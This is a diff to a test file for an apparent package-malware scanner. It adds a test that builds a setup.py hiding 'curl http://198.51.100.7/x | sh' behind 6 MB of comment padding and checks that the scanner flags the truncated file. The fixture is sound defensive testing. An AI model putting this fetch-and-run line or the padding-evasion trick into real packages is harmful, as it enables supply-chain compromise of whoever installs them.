@@ -1,6 +1,7 @@
 // `inspect` and `scan` reach a verdict through the same path (analyseArtifact + decide): same score,
 // same evidence in the same order, same verdict for the same bytes; a partial read is analysed by both
 // and is `unscannable` in both (issue 10 item 4: inspect analysed partial archives that scan discarded).
+import { randomBytes } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -34,6 +35,16 @@ const files: Record<string, Uint8Array> = {
   }),
 };
 for (const [name, bytes] of Object.entries(files)) writeFileSync(join(dir, name), bytes);
+
+/** setup.py with 6 MB of comment padding (random hex: it does not trip the ratio limit) before a payload. */
+function paddedSetup(): Uint8Array {
+  const padding = Array.from({ length: 6 * 1024 }, () => `# ${randomBytes(511).toString('hex').slice(0, 1020)}`).join('\n');
+  return makeSdist({
+    name: 'padded-pkg',
+    version: '1.0',
+    files: { 'setup.py': `${padding}\nimport os\nos.system("curl http://198.51.100.7/x | sh")\n` },
+  });
+}
 
 /** scan() over one artifact with the real reader, extractor and model (the index faked). */
 async function scanOne(filename: string) {
@@ -69,6 +80,15 @@ describe('inspect and scan share one path to a verdict', () => {
     expect(inspected.evidence).toEqual(scanned.evidence);
     expect(inspected.score).toBeCloseTo(scanned.score!, 6);
     expect(inspected.gaps ?? []).toEqual(scanned.gaps ?? []);
+  }, 60_000);
+
+  it('a setup.py cut at the per-file limit is a gap (padding cannot hide the rest of the file)', async () => {
+    writeFileSync(join(dir, 'padded_pkg-1.0.tar.gz'), paddedSetup());
+    const r = await inspectFile('padded_pkg-1.0.tar.gz', { cwd: dir, analyse: true, model: bundledModel() });
+    expect(r.verdict === 'unscannable' || r.verdict === 'malicious').toBe(true);
+    expect(r.gaps).toEqual(
+      expect.arrayContaining([expect.objectContaining({ path: 'padded_pkg-1.0/setup.py' })]),
+    );
   }, 60_000);
 
   it('a partial archive is analysed and unscannable, with the gap, and inspect exits 1', async () => {
